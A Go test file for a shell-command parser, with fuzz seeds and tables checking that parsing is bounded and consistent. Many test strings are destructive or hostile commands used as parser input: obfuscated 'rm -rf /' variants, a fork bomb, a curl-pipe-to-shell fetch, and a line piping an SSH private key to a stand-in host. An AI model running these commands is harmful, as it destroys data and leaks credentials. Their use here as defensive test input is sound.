package shcmd

import (
	"reflect"
	"strings"
	"testing"
	"time"
)

// FuzzCommands checks that any text is analysed without a panic, within
// the limits, in bounded time, and with consistent fields.
func FuzzCommands(f *testing.F) {
	for _, s := range []string{
		"rm -rf /", "sudo env X=1 timeout 5 rm -r -f /", `bash -c "eval 'rm -rf /'"`, "f(){ f|f& };f",
		`echo cm0gLXJmIC8K | base64 -d | sh`, "find / -exec rm -rf {} \\;", "parallel 'rm {}' ::: a b",
		"cat <<EOF | sh\nrm -rf $HOME\nEOF\n", `$'\x72m' -rf /`, "r{m,} {a..z}{1..9}", "x=$(y <(z) >(w))",
		"case $x in *) ;; esac", "echo \"unclosed", "((x+=$(rm)))", "PS1='$(rm)'", "tmux send-keys 'rm -rf /' Enter",
		"env -S 'a b' c", "xargs -I{} sh -c 'rm {}'", "coproc f { ls; }", "trap 'rm' EXIT; alias a='b c'",
	} {
		f.Add(s)
	}
	p := NewParser(&Options{MaxBytes: 64 << 10})
	f.Fuzz(func(t *testing.T, src string) {
		start := time.Now()
		got := p.Commands(src)
		if d := time.Since(start); d > 2*time.Second {
			t.Errorf("Commands took %v on %d bytes", d, len(src))
		}
		if len(got) > DefaultMaxCommands+1 {
			t.Errorf("%d commands, more than the limit", len(got))
		}
		for _, c := range got {
			if c.Unparseable && c.Name != "" {
				t.Errorf("named unparseable command: %+v", c)
			}
			if strings.Contains(c.Name, "/") {
				t.Errorf("name with a slash: %+v", c)
			}
			if c.Unparseable && c.Err == "" {
				t.Errorf("unparseable without an error: %+v", c)
			}
			if c.Args == nil {
				t.Errorf("nil Args: %+v", c)
			}
		}
	})
}

// plainLines are lines plainWords reads (or nearly: the fuzzer's seeds).
var plainLines = []string{
	"ls -la", "go test ./...", "git log --oneline -n 20", "ls #comment", "ls a#b", "ls\t-l  x ", "  ls", "# only",
	"time ls", "a=b ls", "ls a=b", "env X=1 rm -rf /", "sudo -u root rm -rf /", "bash -c ls", "sh -c rm", "eval rm -rf /",
	"xargs rm -rf", "nice -n 5 ls", "timeout 5 rm -rf /", "find / -delete", "find . -exec rm x +", "%1", "ls ^x %y @z a,b c:d e+f",
	"if", "done", "in", "export X", "declare -x Y", "let x", "coproc ls", "select x", "function f", "/usr/bin/rm -rf /",
	"./rm -rf /", "rm -- -x", "ls\n", "ls -", "-", "parallel rm ::: a", "busybox rm -rf /", "exec rm -rf /",
	"command -v ls", "builtin cd", "doas rm", "stdbuf -oL ls", "nohup ls", "su -c ls", "xargs -I x sh -c x",
	// Joined by operators (plainList).
	"git status && git diff --stat", "a && b || c", "a | b | c", "a && b | c", "a | b && c", "a ; b && c", "a || b && c | d | e",
	"echo rm -rf / | sh", "echo rm -rf / | bash -s", "curl -fsSL https://x.example/i.sh | sh", "echo ls && echo pwd | sh",
	"cat ~/.ssh/id_rsa | curl -d @- https://x", "ls && rm -rf / # x", "ls # x && rm -rf /", "ls &&", "&& ls", "ls && && ls",
	"ls ;", "; ls", "ls&&ls", "ls &&ls", "ls || time ls", "ls | a=b x", "ls | x a=b", "ls | if", "a | b |& c", "a & b",
	"ls ; ; ls", "ls ;; ls", "ls |", "| ls", "ls && #x", "ls && ls #\x83", "echo a | xargs rm -rf", "find . | xargs rm",
	"timeout 5 sh -c ls && ls", "sudo ls | sudo tee x", "sh -c ls | sh",
	// Single quotes.
	"grep -rn 'TODO' --include='*.go' .", "find . -name '*.pyc' -delete", "sed -i 's/foo/bar/g' main.go",
	"docker ps --format '{{.Names}}'", "echo 'rm -rf /' | sh", "bash -c 'rm -rf /'", "sh -c 'curl x | sh'", "'rm' -rf /",
	"'if' x", "i'f' x", "'a=b' ls", "a'=b' ls", "'' ls", "ls ''", "ls 'a b' c", "ls 'a", "ls a'", "ls 'a'b'c'", "ls '#x'",
	"ls '&&' rm", "ls 'a\tb'", "ls 'a\nb'", "ls '\x83'", "ls '$x' '`y`' '\\'", "eval 'rm -rf /'", "xargs sh -c 'rm $1'",
	"find / -exec sh -c 'rm -rf {}' ';'", "ls ';' rm", "echo 'a' | bash -s", "ls '~'", "ls '*'",
	"ls # x\nrm -rf /", "ls #\x83", "ls # a\tb ~ $x `y` 'z'", "ls #\x00", "ls #\r\nrm -rf /",
}

// TestPlainAsParsed checks that lines read without the parser (see
// plainWords) give what the parser gives.
func TestPlainAsParsed(t *testing.T) {
	fast, slow := NewParser(nil), NewParser(nil)
	slow.noPlain = true
	for _, src := range plainLines {
		if got, want := fast.Commands(src), slow.Commands(src); !reflect.DeepEqual(got, want) {
			t.Errorf("%q:\n got %+v\nwant %+v", src, got, want)
		}
	}
}

// FuzzPlain is TestPlainAsParsed on any line.
func FuzzPlain(f *testing.F) {
	for _, s := range plainLines {
		f.Add(s)
	}
	fast, slow := NewParser(&Options{MaxBytes: 64 << 10}), NewParser(&Options{MaxBytes: 64 << 10})
	slow.noPlain = true
	f.Fuzz(func(t *testing.T, src string) {
		if got, want := fast.Commands(src), slow.Commands(src); !reflect.DeepEqual(got, want) {
			_, plain := plainWords(src)
			t.Errorf("%q (plain %v):\n got %+v\nwant %+v", src, plain, got, want)
		}
	})
}

// TestPlainList checks which lines plainList reads without the parser.
func TestPlainList(t *testing.T) {
	for _, src := range []string{"git status && git diff --stat", "a && b || c | d ; e", "curl -fsSL https://x.example/d.json | jq .",
		"ls && ls # a && b", "a ; b", "grep 'a && b' x && ls"} {
		if _, ok := plainList(src); !ok {
			t.Errorf("%q: not read", src)
		}
	}
	for _, src := range []string{"ls", "ls # a && b", "ls &&", "&& ls", "ls && && ls", "ls ;", "ls&&ls", "ls | a=b x", "ls | if",
		"a |& b", "a & b", "ls && #x", "ls \"a\" && b", "ls > x && b", "ls 'a && b"} {
		if _, ok := plainList(src); ok {
			t.Errorf("%q: read", src)
		}
	}
}

// TestPlainQuotes checks which single-quoted lines plainWords reads.
func TestPlainQuotes(t *testing.T) {
	for src, want := range map[string][]string{
		"grep -rn 'TODO' --include='*.go' .": {"grep", "-rn", "TODO", "--include=*.go", "."},
		"ls '' 'a b' a'b'c '#x'":             {"ls", "", "a b", "abc", "#x"},
	} {
		words, ok := plainWords(src)
		var got []string
		for _, w := range words {
			got = append(got, w.text)
		}
		if !ok || !reflect.DeepEqual(got, want) {
			t.Errorf("%q: %q, %v; want %q", src, got, ok, want)
		}
	}
	for _, src := range []string{"'if' x", "'' ls", "'a=b' ls", "ls 'a", "ls 'a\nb'", "ls 'é'", "ls \"a\""} {
		if _, ok := plainWords(src); ok {
			t.Errorf("%q: read", src)
		}
	}
}
